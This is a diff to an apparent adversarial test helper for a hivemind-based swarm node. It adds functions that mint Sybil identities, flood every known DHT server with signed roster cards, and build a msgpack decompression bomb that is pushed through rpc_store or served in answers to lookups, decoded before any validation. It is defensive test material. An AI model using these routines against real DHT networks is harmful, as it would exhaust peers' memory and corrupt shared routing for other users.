@@ -14,6 +14,11 @@ Attacks (each aims at both key layouts, the single v1 keys and the per-peer / sh
 
 Prints ``STORED {"attack": n accepted, ...}`` once done (how many stores some node accepted), then
 sleeps; the test kills it by PID.
+
+The coroutines below the CLI (``store_cards``, ``store_records``, ``store_bomb``, ``serve_bomb``) run inside a
+bare hivemind DHT's process (``dht.run_coroutine``) and speak hivemind's RPCs straight to every DHT server
+the attacker knows, as an outside attacker can: what they send is built inside that process, so no request
+over the attacker's own node<->DHT pipe is large.
 """
 
 from __future__ import annotations
@@ -21,11 +26,16 @@ from __future__ import annotations
 import functools
 import hashlib
 import json
+import struct
 import sys
 import time
 
 import hivemind
-from hivemind.utils import get_dht_time
+import msgpack
+from hivemind.dht.routing import DHTID
+from hivemind.dht.storage import DictionaryDHTValue
+from hivemind.proto import dht_pb2
+from hivemind.utils import MSGPackSerializer, get_dht_time
 
 from swarmnode.identity import Identity
 from swarmnode.swarm.wire import codec, protocol
@@ -135,6 +145,122 @@ def main() -> None:
             stored.setdefault(attack, 0)
     print("STORED " + json.dumps(stored), flush=True)
     time.sleep(600)
+
+
+def sybil(tag: bytes, i: int) -> Identity:
+    """The ``i``-th identity of a family (fixed seeds: free to mint, the same in every process)."""
+    return Identity.from_seed(hashlib.sha256(tag + b"%d" % i).digest())
+
+
+def shard_filling(tag: bytes, per_shard: int, shards: int = 8) -> list[int]:
+    """Indices of ``tag`` identities with exactly ``per_shard`` cards in each of ``shards`` roster shards."""
+    counts, chosen, i = [0] * shards, [], 0
+    while min(counts) < per_shard:
+        # dht_rules.roster_shard, not imported: the helper also runs against older code
+        shard = hashlib.sha256(sybil(tag, i).peer_id.encode()).digest()[0] % shards
+        if counts[shard] < per_shard:
+            counts[shard] += 1
+            chosen.append(i)
+        i += 1
+    return chosen
+
+
+def card(identity: Identity, swarm: str, timestamp: float, pad: int = 0) -> bytes:
+    """A validly signed roster card of ``identity``, padded with ``pad`` characters of extra."""
+    body = protocol.RosterCard(
+        peer_id=identity.peer_id, swarm_id=swarm, model_name="sybil", tokenizer_fingerprint="",
+        policy_version=0, round=0, addrs=(), timestamp=timestamp, seq=1,
+        extra={"pad": "x" * pad} if pad else {},
+    )  # fmt: skip
+    return codec.encode_message(identity, swarm, body)
+
+
+def _servers(node) -> list:
+    return list(node.protocol.routing_table.uid_to_peer_id.values())
+
+
+async def _send(node, records: list[tuple[str, str, bytes, float]], in_cache: bool, batch: int = 64) -> int:
+    """Each (key, subkey, value, expiration) to every known DHT server, ``batch`` records per request;
+    how many (record, server) stores were accepted."""
+    accepted = 0
+    for peer in _servers(node):
+        for first in range(0, len(records), batch):
+            part = records[first : first + batch]
+            ok = await node.protocol.call_store(
+                peer,
+                [DHTID.generate(source=key) for key, _, _, _ in part],
+                [msgpack.packb(value, use_bin_type=True) for _, _, value, _ in part],
+                [expiration for _, _, _, expiration in part],
+                subkeys=[subkey for _, subkey, _, _ in part],
+                in_cache=in_cache,
+            )
+            accepted += sum(bool(x) for x in ok or [])
+    return accepted
+
+
+async def store_records(_dht, node, *, records: list[tuple[str, str, bytes, float]], in_cache=False) -> int:
+    """Inside the attacker's DHT process: store the given (small) records at every server it knows."""
+    return await _send(node, records, in_cache)
+
+
+async def store_cards(
+    _dht, node, *, swarm: str, tag: bytes, indices: list[int], ahead_s: float = 0.0,
+    expiration_past_timestamp_s: float = 600.0, pad: int = 0, in_cache: bool = False,
+) -> int:  # fmt: skip
+    """Inside the attacker's DHT process: a card of each ``tag`` identity in ``indices``, signed
+    ``ahead_s`` ahead of now and expiring ``expiration_past_timestamp_s`` after its timestamp, stored at
+    every server it knows (in its cache with ``in_cache``)."""
+    timestamp = get_dht_time() + ahead_s
+    records = []
+    for i in indices:
+        identity = sybil(tag, i)
+        key = keys(swarm, identity.peer_id, "roster")[1]
+        records.append(
+            (
+                key,
+                identity.peer_id,
+                card(identity, swarm, timestamp, pad),
+                timestamp + expiration_past_timestamp_s,
+            )
+        )
+    return await _send(node, records, in_cache)
+
+
+def msgpack_bomb(nbytes: int) -> bytes:
+    """An array of ``nbytes`` empty maps: one byte each on the wire, one Python dict each once decoded."""
+    return b"\xdd" + struct.pack(">I", nbytes) + b"\x80" * nbytes
+
+
+async def store_bomb(_dht, node, *, nbytes: int) -> int:
+    """Inside the attacker's DHT process: an ``rpc_store`` of a whole dictionary whose bytes are a msgpack
+    bomb, to every server it knows (hivemind decodes it before any validator runs); servers that answered."""
+    request = dht_pb2.StoreRequest(
+        keys=[DHTID.generate(source="bomb").to_bytes()], subkeys=[node.protocol.IS_DICTIONARY],
+        values=[msgpack_bomb(nbytes)], expiration_time=[get_dht_time() + 60], in_cache=[False],
+        peer=node.protocol.node_info,
+    )  # fmt: skip
+    answered = 0
+    for peer in _servers(node):
+        try:
+            await node.protocol.get_stub(peer).rpc_store(request, timeout=30)
+            answered += 1
+        except Exception:  # noqa: BLE001 - a server that refused the request answers with an error
+            answered += 1
+    return answered
+
+
+async def serve_bomb(_dht, node, *, key: str, nbytes: int) -> None:
+    """Inside the attacker's (server-mode) DHT process: answer every find of ``key`` with a dictionary whose
+    bytes are a msgpack bomb (a reader decodes a ``call_find`` answer before any validator runs)."""
+    bomb = msgpack_bomb(nbytes)
+
+    class BombSerializer(MSGPackSerializer):
+        @classmethod
+        def dumps(cls, obj: object) -> bytes:
+            return bomb if isinstance(obj, DictionaryDHTValue) else super().dumps(obj)
+
+    node.protocol.serializer = BombSerializer
+    node.protocol.storage.store_subkey(DHTID.generate(source=key), "x", b"v", get_dht_time() + 600)
 
 
 if __name__ == "__main__":
